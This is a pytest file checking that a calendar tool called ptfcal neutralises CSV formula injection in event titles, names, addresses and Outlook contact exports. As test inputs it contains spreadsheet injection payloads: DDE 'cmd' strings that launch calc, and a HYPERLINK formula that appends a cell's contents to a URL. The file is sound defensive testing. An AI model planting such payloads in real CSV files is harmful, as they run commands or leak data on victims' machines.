"""Issue 20, item 5: no CSV ptfcal writes carries a formula (OWASP "CSV injection"). A title,
a name or an address people typed that begins with `=`, `+`, `-`, `@`, a tab or a carriage
return is written with a leading `'`, read back here with the standard CSV parser."""

from __future__ import annotations

import ast
import csv
import io
import json
from pathlib import Path

import pytest

from ptfcal import sheet
from tests.conftest import CONFIG
from tests.test_convene import SAMPLE
from tests.test_record import ptfcal

PACKAGE = CONFIG.parent / "ptfcal"
HOSTILE = '=HYPERLINK("http://example.org/?"&A1,"Ordre du jour")'


def cells(data: bytes, delimiter: str = ";") -> list[list[str]]:
    assert data.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""),
                           delimiter=delimiter))


@pytest.mark.parametrize(("value", "written"), [
    ("=1+1", "'=1+1"), ("+33 1 23", "'+33 1 23"), ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C "
                                                                       "calc'!A0"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("\n=1", "'\n=1"),
    # what ptfcal writes itself is left alone
    ("2020-06-10", "2020-06-10"), ("10:00", "10:00"), ("", ""), ("Réunion = GEC", "Réunion = GEC"),
    ("'déjà", "'déjà"), (" =1", " =1"),
])
def test_a_cell_that_would_be_a_formula_is_text(value: str, written: str) -> None:
    assert sheet.cell(value) == written


def test_a_hostile_title_is_not_a_formula_in_the_published_events_csv(
        config_copy: Path, tmp_path: Path) -> None:
    ptfcal(config_copy, "add", "gec-extraordinary", "--on", "2020-09-15", "--title", HOSTILE)
    out = tmp_path / "out"
    ptfcal(config_copy, "generate", "2020", "--out", str(out), "--as-of", "2020-07-01")
    for path in (out / "2020" / "events.csv", out / "2020" / "en" / "events.csv"):
        rows = cells(path.read_bytes())
        titles = [r[5] for r in rows if r[0] == "2020-09-15"]
        assert titles == ["'" + HOSTILE], path
        assert not any(c.startswith(sheet.FORMULA_STARTS) for r in rows for c in r), path
    # the feeds and events.json are not spreadsheets: they keep the title as typed
    events = json.loads((out / "2020" / "events.json").read_text(encoding="utf-8"))["events"]
    assert HOSTILE in [e["title"]["fr"] for e in events]


def test_hostile_names_and_addresses_are_text_in_the_lists_and_outlook_csv(
        config_copy: Path, tmp_path: Path) -> None:
    text = SAMPLE.read_text(encoding="utf-8")
    hostile = {"Awa Exemple": "=cmd|' /C calc'!A0", "Moussa Exemple": "@SUM(1+1)*cmd",
               "Claire Exemple": "+Claire Exemple", "Jonas Exemple": "-Jonas Exemple"}
    for name, value in hostile.items():
        text = text.replace(f'name: "{name}"', f"name: {json.dumps(value)}", 1)
    text = text.replace("email: awa.banque-mondiale.head@example.org",
                        "email: -awa@example.org", 1)
    (config_copy / "people.yaml").write_text(text, encoding="utf-8")

    listing = tmp_path / "liste.csv"
    ptfcal(config_copy, "lists", "2020", "--type", "gec-monthly", "--format", "csv",
           "--output", str(listing))
    rows = cells(listing.read_bytes())
    names = {r[6] for r in rows[1:]}
    assert {"'" + v for v in hostile.values()} <= names
    assert "'-awa@example.org" in {r[7] for r in rows[1:]}
    assert not any(c.startswith(sheet.FORMULA_STARTS) for r in rows for c in r)

    contacts = tmp_path / "contacts.csv"
    ptfcal(config_copy, "lists", "2020", "--type", "gec-monthly", "--format", "outlook",
           "--output", str(contacts))
    rows = cells(contacts.read_bytes(), ",")
    assert rows[0] == ["First Name", "Last Name", "E-mail Address", "Company", "Job Title"]
    written = {c for r in rows[1:] for c in r}
    assert {"'=cmd|' /C", "'@SUM(1+1)*cmd", "'+Claire", "'-Jonas", "'-awa@example.org"} <= written
    assert not any(c.startswith(sheet.FORMULA_STARTS) for r in rows for c in r)


def test_every_csv_is_written_by_the_one_helper() -> None:
    """A new CSV writer elsewhere would skip the neutralisation: only `sheet` makes one."""
    writers = []
    for path in PACKAGE.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter") and (
                    isinstance(node.value, ast.Name) and node.value.id == "csv"):
                writers.append(path.relative_to(PACKAGE).as_posix())
    assert writers == ["sheet.py"]
